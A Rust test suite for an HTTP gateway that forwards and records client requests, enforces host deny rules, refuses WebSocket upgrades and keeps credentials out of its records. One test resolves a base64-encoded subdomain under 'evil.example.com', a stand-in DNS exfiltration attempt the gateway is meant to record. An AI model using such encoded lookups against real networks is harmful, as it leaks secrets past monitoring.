//! What clients ask for, and get.

use oci::Digest;
use oci::record::Verdict;

use super::upstreams::{Act, Upstream, bytes, say};
use super::world::{World, run};

#[test]
fn a_plain_request_is_answered_and_recorded() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|_| say("ETag: \"v1\"\r\n", "hello")).await;
        let reply = world.get("up.example.org", upstream.port, "/file?x=1").await;
        assert_eq!((reply.status(), reply.text().as_str(), reply.whole), (200, "hello", true), "{reply:?}");
        let asked = upstream.asked();
        assert!(asked[0].starts_with("get /file?x=1 http/1.1\r\n"), "{asked:?}");
        assert!(asked[0].contains(&format!("host: up.example.org:{}\r\n", upstream.port)));
        let url = format!("http://up.example.org:{}/file?x=1", upstream.port);
        let intake = world.only();
        assert_eq!((intake.url.as_str(), intake.method.as_str()), (url.as_str(), "GET"));
        assert_eq!((intake.digest, intake.size, intake.status), (Some(Digest::of(b"hello")), 5, Some(200)));
        assert_eq!((intake.verdict, intake.etag.as_deref()), (Verdict::Allowed, Some("\"v1\"")));
    });
}

#[test]
fn connections_stay_open_and_requests_follow_each_other() {
    run(World::new(), async |world| {
        let upstream =
            Upstream::plain(|head| say("", if head.starts_with("GET /a") { "aa" } else { "b" })).await;
        let request = "GET /a HTTP/1.1\r\nHost: up.example.org\r\n\r\n\
                       GET /b HTTP/1.1\r\nHost: up.example.org\r\nConnection: close\r\n\r\n";
        let reply = world.raw("up.example.org", upstream.port, request).await;
        let text = reply.text();
        assert!(text.starts_with("aaHTTP/1.1 200 OK\r\n") && text.ends_with("\r\n\r\nb"), "{text}");
        assert_eq!(world.finish().intakes.len(), 2);
    });
}

#[test]
fn what_is_not_found_is_an_answer_too() {
    run(World::new(), async |world| {
        let upstream =
            Upstream::plain(|_| bytes("HTTP/1.1 404 Not Found\r\nContent-Length: 4\r\n\r\ngone")).await;
        let reply = world.get("up.example.org", upstream.port, "/x").await;
        assert_eq!((reply.status(), reply.text().as_str()), (404, "gone"));
        let intake = world.only();
        assert_eq!((intake.status, intake.size, intake.verdict), (Some(404), 4, Verdict::Allowed));
    });
}

#[test]
fn a_redirect_is_the_clients_to_follow() {
    run(World::new(), async |world| {
        let redirect =
            "HTTP/1.1 302 Found\r\nLocation: http://other.example.org/y\r\nContent-Length: 0\r\n\r\n";
        let upstream = Upstream::plain(move |_| bytes(redirect)).await;
        let reply = world.get("up.example.org", upstream.port, "/x").await;
        assert_eq!((reply.status(), reply.header("location")), (302, Some("http://other.example.org/y")));
        assert_eq!(world.only().status, Some(302));
    });
}

/// The gateway follows none, so a loop is the client's to notice; each hop is judged by itself.
#[test]
fn a_redirect_to_itself_or_to_a_denied_host_is_asked_no_more_than_the_client_asks() {
    let rules = crate::gateway::gate::Rules {
        deny: vec!["bad.example.org".parse().unwrap()],
        ..crate::gateway::gate::Rules::default()
    };
    run(World::with(|options| options.gate = std::sync::Arc::new(rules)), async |world| {
        let upstream = Upstream::plain(|head| match head.starts_with("GET /loop ") {
            true => bytes("HTTP/1.1 302 Found\r\nLocation: /loop\r\nContent-Length: 0\r\n\r\n"),
            false => {
                bytes("HTTP/1.1 302 Found\r\nLocation: http://bad.example.org/x\r\nContent-Length: 0\r\n\r\n")
            }
        })
        .await;
        for asked in 1..=3 {
            assert_eq!(world.get("up.example.org", upstream.port, "/loop").await.status(), 302);
            assert_eq!(upstream.count(), asked);
        }
        let away = world.get("up.example.org", upstream.port, "/away").await;
        assert_eq!(away.header("location"), Some("http://bad.example.org/x"));
        assert_eq!(world.get("bad.example.org", upstream.port, "/x").await.status(), 403);
        assert_eq!(upstream.count(), 4);
        let served = world.finish();
        let last = &served.intakes.last().unwrap().verdict;
        assert!(matches!(last, oci::record::Verdict::Refused { rule, .. } if rule == "network.deny"));
    });
}

#[test]
fn head_tells_the_size_and_sends_nothing() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|_| bytes("HTTP/1.1 200 OK\r\nContent-Length: 12345\r\n\r\n")).await;
        let reply = world.ask("up.example.org", upstream.port, "HEAD", "/x", "").await;
        assert_eq!((reply.status(), reply.header("content-length")), (200, Some("12345")), "{reply:?}");
        assert!(reply.body.is_empty());
        assert_eq!(world.only().method, "HEAD");
    });
}

#[test]
fn a_chunked_and_a_compressed_body_pass_as_they_are() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|head| {
            assert!(head.to_lowercase().contains("accept-encoding: gzip\r\n"), "{head}");
            bytes("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n3\r\nabc\r\n2\r\nde\r\n0\r\n\r\n")
        })
        .await;
        let reply = world
            .ask("up.example.org", upstream.port, "GET", "/x", "Accept-Encoding: br, gzip;q=1.0\r\n")
            .await;
        assert_eq!((reply.text().as_str(), reply.whole), ("abcde", true), "{reply:?}");
        assert_eq!(reply.header("content-encoding"), Some("gzip"));
        assert_eq!(world.only().size, 5);
    });
}

#[test]
fn a_post_is_streamed_and_both_bodies_are_recorded() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|head| {
            assert!(head.starts_with("POST /x HTTP/1.1\r\n"), "{head}");
            say("", "answer")
        })
        .await;
        let request = "POST /x HTTP/1.1\r\nHost: up.example.org\r\nContent-Length: 8\r\nConnection: close\r\n\
                       Expect: 100-continue\r\n\r\nquestion";
        let reply = world.raw("up.example.org", upstream.port, request).await;
        assert!(reply.line.starts_with("HTTP/1.1 100"), "{reply:?}");
        assert!(reply.text().ends_with("answer"), "{reply:?}");
        let intake = world.only();
        let variant = format!("body={}\n", Digest::of(b"question"));
        assert_eq!(intake.request, Some(Digest::of(variant.as_bytes())));
        assert_eq!((intake.method.as_str(), intake.size), ("POST", 6));
    });
}

#[test]
fn a_websocket_is_refused_in_words_and_an_offer_of_http2_is_not_taken() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|_| say("", "plain")).await;
        let offer =
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n";
        let request = format!("GET /x HTTP/1.1\r\nHost: up.example.org\r\n{offer}\r\n");
        let mut stream = world.connect("up.example.org", upstream.port).await;
        let reply = super::world::converse(&mut stream, &request).await;
        assert!(reply.ends_with("plain"), "{reply}");
        let socket = "Connection: Upgrade\r\nUpgrade: websocket\r\n";
        let request = format!("GET /x HTTP/1.1\r\nHost: up.example.org\r\n{socket}\r\n");
        let reply = super::world::converse(&mut stream, &request).await;
        assert!(reply.starts_with("HTTP/1.1 501 Kapok: WebSocket cannot leave a step"), "{reply}");
        assert!(reply.contains("\r\n\r\nKapok: WebSocket"), "{reply}");
        drop(stream);
        let served = world.finish();
        assert!(matches!(served.intakes[1].verdict, Verdict::Failed { .. }));
        assert_eq!(upstream.count(), 1);
    });
}

#[test]
fn absolute_form_and_connect_are_for_clients_that_want_a_proxy() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|_| say("", "through")).await;
        let to = format!("up.example.org:{}", upstream.port);
        let request = format!("GET http://{to}/x HTTP/1.1\r\nHost: {to}\r\nConnection: close\r\n\r\n");
        let reply = world.raw("proxy.example.com", 3128, &request).await;
        assert_eq!(reply.text(), "through", "{reply:?}");
        let mut stream = world.connect("proxy.example.com", 3128).await;
        let opened =
            super::world::converse(&mut stream, &format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n"))
                .await;
        assert!(opened.starts_with("HTTP/1.1 200 OK"), "{opened}");
        let inner = format!("GET /y HTTP/1.1\r\nHost: {to}\r\n\r\n");
        let reply = super::world::converse(&mut stream, &inner).await;
        assert!(reply.ends_with("through"), "{reply}");
        drop(stream);
        let served = world.finish();
        let urls: Vec<_> = served.intakes.iter().map(|intake| intake.url.clone()).collect();
        assert_eq!(urls, [format!("http://{to}/x"), format!("http://{to}/y")]);
    });
}

#[test]
fn credentials_go_to_the_upstream_and_nowhere_else() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|head| {
            let known = head.to_lowercase().contains("authorization: basic");
            if known {
                say("Set-Cookie: a=b\r\n", "private")
            } else {
                Act::Say(b"HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n".to_vec())
            }
        })
        .await;
        let login = "Authorization: Basic dTpw\r\n";
        let path = "/packages/a-1.0-py3-none-any.whl";
        let reply = world.ask("up.example.org", upstream.port, "GET", path, login).await;
        assert_eq!((reply.text().as_str(), reply.header("set-cookie")), ("private", Some("a=b")));
        let reply = world.get("up.example.org", upstream.port, path).await;
        assert_eq!(reply.status(), 401, "nobody else gets it");
        let served = world.finish();
        assert!(!format!("{served:?}").contains("dTpw"), "{served:?}");
        assert!(!format!("{served:?}").contains("a=b"), "{served:?}");
        assert_eq!(served.intakes[0].digest, Some(Digest::of(b"private")));
    });
}

#[test]
fn tokens_are_credentials_wherever_they_stand() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|head| {
            let known = head.contains("job-token: t0p") || head.contains("access_token=t0p");
            if known { say("", "private") } else { bytes("HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n") }
        })
        .await;
        let path = "/packages/a-1.0-py3-none-any.whl";
        let port = upstream.port;
        let reply = world.ask("up.example.org", port, "GET", path, "job-token: t0p\r\n").await;
        assert_eq!(reply.text(), "private");
        let reply = world.get("up.example.org", port, &format!("{path}?access_token=t0p")).await;
        assert_eq!(reply.text(), "private");
        assert_eq!(world.get("up.example.org", port, path).await.status(), 401, "nobody else gets it");
        let served = world.finish();
        assert!(!format!("{served:?}").contains("t0p"), "{served:?}");
        assert_eq!(served.intakes[1].url, format!("http://up.example.org:{port}{path}"));
    });
}

#[test]
fn what_is_private_is_given_again_when_the_upstream_knows_who_asks() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|head| {
            let lower = head.to_lowercase();
            match (lower.contains("authorization: "), lower.contains("if-none-match: \"p\"")) {
                (true, true) => bytes("HTTP/1.1 304 Same\r\n\r\n"),
                (true, false) => say("ETag: \"p\"\r\n", "private"),
                _ => bytes("HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n"),
            }
        })
        .await;
        for expected in [200, 200, 401] {
            let login = if expected == 200 { "Authorization: Bearer abc\r\n" } else { "" };
            let reply =
                world.ask("up.example.org", upstream.port, "GET", "/a-1.0-py3-none-any.whl", login).await;
            assert_eq!(reply.status(), expected);
            assert_eq!(reply.text() == "private", expected == 200);
        }
        assert!(upstream.asked()[1].contains("if-none-match"));
    });
}

#[test]
fn names_that_nobody_asked_anything_are_recorded() {
    run(World::new(), async |world| {
        let upstream = Upstream::plain(|_| say("", "x")).await;
        world.get("up.example.org", upstream.port, "/x").await;
        world.step.step().names.address("c2VjcmV0.evil.example.com").unwrap();
        let served = world.finish();
        let last = served.intakes.last().unwrap();
        assert_eq!((last.url.as_str(), last.method.as_str()), ("dns://c2VjcmV0.evil.example.com", "DNS"));
        assert_eq!(served.intakes.len(), 2);
    });
}
